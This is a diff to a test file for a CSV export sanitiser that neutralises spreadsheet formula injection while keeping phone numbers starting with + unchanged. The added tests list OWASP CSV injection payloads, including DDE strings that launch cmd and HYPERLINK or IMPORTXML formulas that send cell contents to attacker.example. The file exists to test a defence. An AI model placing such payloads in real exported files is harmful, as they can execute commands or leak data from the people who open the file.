@@ -14,10 +14,10 @@ describe('csvField', () => {
     ['only quotes', '""', '""""""'],
     ['semicolon needs no quotes', 'a;b', 'a;b'],
     ['unicode', 'Zoë 李 🎉', 'Zoë 李 🎉'],
-    // Values starting with =, +, -, @ are neutralised so a spreadsheet does not run them as a formula (and tab
-    // or CR, which can hide one).
+    // Values starting with =, @, tab or CR are neutralised so a spreadsheet does not run them as a formula; so
+    // are those starting with + or - unless the rest is a phone number's characters.
     ['formula =', '=HYPERLINK("http://evil","x")', '"\'=HYPERLINK(""http://evil"",""x"")"'],
-    ['formula + (phone)', '+49 30 1234', "'+49 30 1234"],
+    ['phone with +', '+49 30 1234', '+49 30 1234'],
     ['formula -', '-2+3', "'-2+3"],
     ['formula @', '@SUM(A1:A2)', "'@SUM(A1:A2)"],
     ['leading tab', '\t=1+1', "'\t=1+1"],
@@ -36,6 +36,38 @@ describe('neutraliseFormula', () => {
   it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a value starting with %j', (start) => {
     expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
   });
+
+  // OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection) and their variants.
+  it.each([
+    '=cmd|\' /C calc\'!A0',
+    '+cmd|\' /C calc\'!A0',
+    '-cmd|\' /C calc\'!A0',
+    '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: click here")',
+    '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
+    '+1+1',
+    '-2+3',
+    '+1*2',
+    '-1^2',
+    '+A1',
+    '-SUM(A1:A3)',
+    '+49 30 1234;+1',
+    '+49\u00a030', // a no-break space is not one of the phone number's characters
+    '\t=1+1',
+    '\r=1+1',
+    '=1',
+    '@A1',
+  ])('neutralises %j', (payload) => {
+    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
+  });
+
+  // Phone numbers as people and address books write them stay exactly as typed.
+  it.each(['+49 30 1234', '+1 (555) 010-9999', '+44 20 7946 0958', '+33 1.23.45.67.89', '+49 (0)30/1234-56', '-', '+', '-1', '+81 3-1234-5678'])(
+    'keeps %j',
+    (phone) => {
+      expect(neutraliseFormula(phone)).toBe(phone);
+    },
+  );
   it('leaves other values alone', () => {
     expect(neutraliseFormula("'already")).toBe("'already");
     expect(neutraliseFormula('x=')).toBe('x=');
